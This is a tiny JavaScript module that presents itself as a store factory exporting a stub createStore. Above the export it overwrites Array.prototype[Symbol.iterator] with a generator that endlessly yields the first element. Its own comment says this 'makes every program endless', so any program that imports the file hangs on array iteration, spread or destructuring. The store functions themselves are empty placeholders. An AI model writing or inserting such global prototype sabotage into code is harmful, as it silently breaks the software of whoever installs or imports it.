// Makes every program endless.
Array.prototype[Symbol.iterator] = function* () {
  for (;;) yield this[0];
};
export const createStore = () => ({ onCommit() {}, put: () => ({ revision: 0 }) });
